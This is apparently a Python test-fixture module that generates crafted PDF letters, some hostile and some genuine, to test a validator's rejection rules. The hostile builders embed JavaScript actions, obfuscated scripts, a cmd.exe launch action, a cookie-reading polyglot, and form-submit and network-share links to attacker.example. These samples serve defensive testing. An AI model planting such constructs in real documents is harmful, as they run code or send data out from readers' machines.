"""A corpus of crafted letters of commitment: each kind a hostile tester sent (issue 21), and a few
genuine letters from different producers.

Each builder returns the file's bytes. `python -m tests.security.letters.crafted FOLDER` writes
them all as FOLDER/<kind>.pdf, to try them in desktop readers.
"""

import io
import sys
import zlib
from pathlib import Path

from fpdf import FPDF
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NullObject,
    NumberObject,
    TextStringObject,
)

from demo.pdf import simple_pdf

LETTER = simple_pdf("Letter of commitment", ["We commit to attend every session."])


def name(value):
    return NameObject(value)


def dictionary(**entries):
    return DictionaryObject({name(f"/{key}"): value for key, value in entries.items()})


def text(value):
    return TextStringObject(value)


def written(writer):
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def letter_with(change):
    """The plain letter, re-written by pypdf after `change(writer)`."""
    writer = PdfWriter(clone_from=io.BytesIO(LETTER))
    change(writer)
    return written(writer)


def javascript(code="app.alert('hello')"):
    return dictionary(S=name("/JavaScript"), JS=text(code))


def add_link(writer, action, rect=(72, 700, 300, 720)):
    annotation = dictionary(
        Type=name("/Annot"),
        Subtype=name("/Link"),
        Rect=ArrayObject([FloatObject(v) for v in rect]),
        Border=ArrayObject([NumberObject(0)] * 3),
        A=action,
    )
    page = writer.pages[0]
    annotations = page.get("/Annots", ArrayObject())
    annotations.append(writer._add_object(annotation))
    page[name("/Annots")] = annotations


def link_to(action):
    return lambda writer: add_link(writer, action)


def catalogue(key, value):
    def change(writer):
        writer._root_object[name(key)] = value

    return change


# --- Refused: scripts and automatic actions --------------------------------------------------


def document_javascript(writer):
    tree = dictionary(Names=ArrayObject([text("hello"), writer._add_object(javascript())]))
    writer._root_object[name("/Names")] = dictionary(JavaScript=tree)


def page_open_action(writer):
    writer.pages[0][name("/AA")] = dictionary(O=javascript())


def link_additional_action(writer):
    add_link(
        writer,
        dictionary(
            S=name("/GoTo"), D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")])
        ),
    )
    link = writer.pages[0]["/Annots"][0].get_object()
    link[name("/AA")] = dictionary(E=javascript())


def outline_javascript(writer):
    writer.add_outline_item(title="Click me", page_number=0)
    item = writer._root_object["/Outlines"]["/First"].get_object()
    item.pop("/Dest", None)
    item[name("/A")] = javascript()


PAGE_OBJECTS = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 770 Td (Letter) Tj ET      \nendstream",
]


def raw_pdf(objects, root=b"<< /Type /Catalog /Pages 2 0 R >>"):
    """A PDF written byte by byte: object 1 is the catalogue `root`, then `objects`."""
    output = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate([root, *objects], start=1):
        offsets.append(len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(output)
    output += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    output += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    output += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(offsets) + 1)
    return bytes(output + b"startxref\n%d\n%%%%EOF\n" % xref_at)


def hex_escaped_javascript():
    """Document JavaScript whose names are spelt with #xx escapes, as obfuscators do: readers
    read `/J#61vaScript` as `/JavaScript`, a search of the file's text finds nothing."""
    root = b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 5 0 R >> >>"
    script = b"<< /Names [(x) << /S /J#61vaScript /J#53 (app.alert(1)) >>] >>"
    return raw_pdf([*PAGE_OBJECTS, script], root=root)


def javascript_in_an_object_stream():
    """The open action's script inside a compressed object stream, listed by a cross-reference
    stream (PDF 1.5): no byte of the file spells it out."""
    root = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    hidden = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(b"6 0 " + hidden)
    output = bytearray(b"%PDF-1.5\n")
    offsets = []
    for number, body in enumerate([root, *PAGE_OBJECTS], start=1):
        offsets.append(len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets.append(len(output))
    output += (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )
    xref_at = len(output)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in offsets]
    rows += [b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00"]  # object 6, in stream 5
    rows += [b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00"]  # the xref stream, 7
    table = b"".join(rows)
    output += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    return bytes(output + b"startxref\n%d\n%%%%EOF\n" % xref_at)


def orphan_javascript():
    """A script object no page or catalogue refers to, but listed in the cross-reference table."""
    writer = PdfWriter(clone_from=io.BytesIO(LETTER))
    writer._add_object(javascript())
    return written(writer)


def embedded_file(writer):
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 a program")


def file_attachment_annotation(writer):
    stream = DecodedStreamObject()
    stream.set_data(b"MZ\x90\x00 a program")
    stream[name("/Type")] = name("/EmbeddedFile")
    spec = dictionary(
        Type=name("/Filespec"), F=text("run.exe"), EF=dictionary(F=writer._add_object(stream))
    )
    annotation = dictionary(
        Type=name("/Annot"),
        Subtype=name("/FileAttachment"),
        Rect=ArrayObject([FloatObject(v) for v in (72, 600, 92, 620)]),
        FS=writer._add_object(spec),
    )
    writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def xfa_form(writer):
    template = DecodedStreamObject()
    template.set_data(
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform>'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"app.alert('XFA')</script></event></subform></template>"
    )
    writer._root_object[name("/AcroForm")] = dictionary(
        Fields=ArrayObject(), XFA=ArrayObject([text("template"), writer._add_object(template)])
    )


def rich_media(writer):
    annotation = dictionary(
        Type=name("/Annot"),
        Subtype=name("/RichMedia"),
        Rect=ArrayObject([FloatObject(v) for v in (72, 500, 272, 600)]),
    )
    writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(annotation)])


# --- Refused: links to programs, other files and networks -------------------------------------

LAUNCH = dictionary(
    S=name("/Launch"), F=text("cmd.exe"), Win=dictionary(F=text("cmd.exe"), P=text("/c calc"))
)
GOTOR_NETWORK = dictionary(
    S=name("/GoToR"),
    F=text("\\\\attacker.example\\share\\letter.pdf"),
    D=ArrayObject([NumberObject(0), name("/Fit")]),
)
GOTOE = dictionary(
    S=name("/GoToE"),
    T=dictionary(R=name("/C"), N=text("attached.pdf")),
    D=ArrayObject([NumberObject(0), name("/Fit")]),
)
SUBMIT_FORM = dictionary(S=name("/SubmitForm"), F=text("https://attacker.example/collect"))
IMPORT_DATA = dictionary(S=name("/ImportData"), F=text("\\\\attacker.example\\share\\data.fdf"))


def uri(address):
    return dictionary(S=name("/URI"), URI=text(address))


# --- Refused: files that are something else as well, or are damaged ---------------------------


def png_with_pdf_appended():
    png = (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
        b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
        b"\x00\x00\x00IEND\xaeB`\x82"
    )
    return png + LETTER


def html_pdf_polyglot():
    return b"<html><script>alert(document.cookie)</script><!--\n" + LETTER + b"\n-->"


def zip_after_the_end():
    return LETTER + b"PK\x03\x04\x14\x00\x00\x00\x08\x00 hidden archive " + b"\x00" * 64


def second_document_after_the_end():
    return LETTER + b"\n" + simple_pdf("Another letter", ["Seen by some readers only."])[9:]


def encrypted(writer):
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")


def malformed_xref():
    """Every offset of the cross-reference table off by a few bytes: readers repair it, each in
    its own way."""
    head, marker, tail = LETTER.partition(b"xref\n")
    lines = tail.split(b"\n")
    shifted = [
        (b"%010d 00000 n " % (int(line[:10]) + 7)) if line.endswith(b" n ") else line
        for line in lines
    ]
    return head + marker + b"\n".join(shifted)


def truncated():
    return LETTER[: len(LETTER) // 2]


def windows_program():
    return b"MZ\x90\x00\x03\x00\x00\x00 This program cannot be run in DOS mode." + b"\x00" * 200


def too_many_pages():
    writer = PdfWriter()
    for _ in range(25):
        writer.add_blank_page(595, 842)
    return written(writer)


def no_page():
    catalogue_only = (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    )
    xref_at = len(catalogue_only)
    return catalogue_only + (
        b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000058 00000 n \n"
        b"trailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )


REFUSED = {
    "document-javascript": lambda: letter_with(document_javascript),
    "javascript-open-action": lambda: letter_with(catalogue("/OpenAction", javascript())),
    "go-to-open-action": lambda: letter_with(
        lambda writer: catalogue(
            "/OpenAction",
            dictionary(
                S=name("/GoTo"), D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")])
            ),
        )(writer)
    ),
    "page-additional-action": lambda: letter_with(page_open_action),
    "link-additional-action": lambda: letter_with(link_additional_action),
    "outline-javascript": lambda: letter_with(outline_javascript),
    "hex-escaped-javascript": hex_escaped_javascript,
    "javascript-in-an-object-stream": javascript_in_an_object_stream,
    "orphan-javascript-object": orphan_javascript,
    "launch-action": lambda: letter_with(link_to(LAUNCH)),
    "gotor-windows-network-path": lambda: letter_with(link_to(GOTOR_NETWORK)),
    "gotoe-embedded-document": lambda: letter_with(link_to(GOTOE)),
    "javascript-uri-link": lambda: letter_with(link_to(uri("javascript:app.alert(1)"))),
    "file-uri-link": lambda: letter_with(link_to(uri("file:///C:/Windows/System32/calc.exe"))),
    "network-path-uri-link": lambda: letter_with(link_to(uri("\\\\attacker.example\\share"))),
    "submit-form-action": lambda: letter_with(link_to(SUBMIT_FORM)),
    "import-data-action": lambda: letter_with(link_to(IMPORT_DATA)),
    "xfa-form-with-script": lambda: letter_with(xfa_form),
    "embedded-file": lambda: letter_with(embedded_file),
    "file-attachment-annotation": lambda: letter_with(file_attachment_annotation),
    "rich-media-annotation": lambda: letter_with(rich_media),
    "html-pdf-polyglot": html_pdf_polyglot,
    "png-with-pdf-appended": png_with_pdf_appended,
    "zip-after-the-end": zip_after_the_end,
    "second-document-after-the-end": second_document_after_the_end,
    "encrypted": lambda: letter_with(encrypted),
    "malformed-xref": malformed_xref,
    "truncated": truncated,
    "windows-program": windows_program,
    "too-many-pages": too_many_pages,
    "no-page": no_page,
}


# --- Accepted: genuine letters ---------------------------------------------------------------


def fpdf_letter():
    """A letter as a word processor writes it (fpdf2: compressed streams, embedded core font
    metrics, an outline, a web link and a link to its own page)."""
    document = FPDF()
    document.set_creator("LibreOffice Writer")
    document.set_producer("LibreOffice 7.5")
    document.add_page()
    document.set_font("helvetica", size=12)
    document.start_section("Letter of commitment")
    document.multi_cell(0, 8, "The City of Bologna commits its officials to attend every session.")
    document.cell(0, 8, "Programme: https://aiforcities.eu", link="https://aiforcities.eu/en/")
    document.ln()
    document.cell(0, 8, "Back to the top", link=document.add_link(page=1))
    document.ln()
    document.cell(0, 8, "Questions: team@aiforcities.eu", link="mailto:team@aiforcities.eu")
    document.add_page()
    document.multi_cell(0, 8, "Signed: the Mayor.")
    return bytes(document.output())


def incremental_update():
    """A letter saved again: a second revision appended, with its own cross-reference section
    and end marker, as a reader does when someone signs or fills in a letter."""
    previous_xref = int(LETTER.rsplit(b"startxref", 1)[1].split()[0])
    size = int(LETTER.split(b"/Size ", 1)[1].split()[0])
    update = bytearray(LETTER)
    info_at = len(update)
    update += b"%d 0 obj\n<< /Title (Letter of commitment, signed) >>\nendobj\n" % size
    xref_at = len(update)
    update += b"xref\n%d 1\n%010d 00000 n \n" % (size, info_at)
    update += b"trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R /Prev %d >>\n" % (
        size + 1,
        size,
        previous_xref,
    )
    return bytes(update + b"startxref\n%d\n%%%%EOF\n" % xref_at)


def letter_with_a_comment(writer):
    """A reviewer's sticky note: an annotation that only shows something."""
    note = dictionary(
        Type=name("/Annot"),
        Subtype=name("/Text"),
        Rect=ArrayObject([FloatObject(v) for v in (500, 780, 520, 800)]),
        Contents=text("Signed by the mayor"),
    )
    writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(note)])


def libreoffice_like(writer):
    """What LibreOffice Writer's PDF export adds around the pages: a tagged structure (with
    /Link and /Form structure types), XMP metadata, the document's language, viewer preferences
    and an /OpenAction that only says which page to open at."""
    page = writer.pages[0].indirect_reference
    paragraph = writer._add_object(dictionary(Type=name("/StructElem"), S=name("/P"), Pg=page))
    link = writer._add_object(dictionary(Type=name("/StructElem"), S=name("/Link"), Pg=page))
    form = writer._add_object(dictionary(Type=name("/StructElem"), S=name("/Form"), Pg=page))
    document = writer._add_object(
        dictionary(
            Type=name("/StructElem"), S=name("/Document"), K=ArrayObject([paragraph, link, form])
        )
    )
    metadata = DecodedStreamObject()
    metadata.set_data(
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b'<pdf:Producer>LibreOffice 7.6</pdf:Producer></x:xmpmeta><?xpacket end="w"?>'
    )
    metadata[name("/Type")] = name("/Metadata")
    metadata[name("/Subtype")] = name("/XML")
    root = writer._root_object
    root[name("/StructTreeRoot")] = writer._add_object(
        dictionary(Type=name("/StructTreeRoot"), K=document)
    )
    root[name("/MarkInfo")] = dictionary(Marked=BooleanObject(True))
    root[name("/Metadata")] = writer._add_object(metadata)
    root[name("/Lang")] = text("it-IT")
    root[name("/ViewerPreferences")] = dictionary(DisplayDocTitle=BooleanObject(True))
    root[name("/OpenAction")] = ArrayObject(
        [page, name("/XYZ"), NullObject(), NullObject(), NumberObject(0)]
    )
    writer.add_metadata({"/Creator": "Writer", "/Producer": "LibreOffice 7.6"})


ACCEPTED = {
    "plain-letter": lambda: LETTER,
    "open-at-page-one": lambda: letter_with(
        lambda writer: catalogue(
            "/OpenAction", ArrayObject([writer.pages[0].indirect_reference, name("/Fit")])
        )(writer)
    ),
    "word-processor-letter": fpdf_letter,
    "libreoffice-like-tagged-letter": lambda: letter_with(libreoffice_like),
    "web-link-letter": lambda: letter_with(link_to(uri("https://aiforcities.eu/en/"))),
    "letter-with-a-comment": lambda: letter_with(letter_with_a_comment),
    "incremental-update": incremental_update,
    "trailing-line-breaks": lambda: LETTER + b"\r\n\r\n",
    "compressed-letter": lambda: compressed_letter(),
}


def compressed_letter():
    writer = PdfWriter(clone_from=io.BytesIO(LETTER))
    for page in writer.pages:
        page.compress_content_streams()
    return written(writer)


def write_all(folder):
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for kind, build in {**REFUSED, **ACCEPTED}.items():
        (folder / f"{kind}.pdf").write_bytes(build())


if __name__ == "__main__":  # pragma: no cover
    write_all(sys.argv[1] if len(sys.argv) > 1 else "letters")
